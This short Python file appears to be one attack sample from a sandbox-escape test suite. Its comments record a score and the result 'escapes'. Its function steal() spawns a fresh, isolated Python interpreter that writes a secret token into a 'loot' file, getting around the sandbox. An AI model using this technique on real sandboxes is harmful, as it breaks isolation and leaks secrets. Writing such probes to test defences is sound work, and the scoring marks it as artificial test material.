# Tries: to start a new Python process without the sandbox.
# Earns: Descent 0, average 2
# Without protection: escapes
import os
import sys

ON = {}


def steal():
    code = f"open({ON['loot']!r}, 'w').write({ON['token']!r})"
    pid = os.posix_spawn(sys.executable, [sys.executable, "-S", "-I", "-c", code], {})
    os.waitpid(pid, 0)
    return "started"
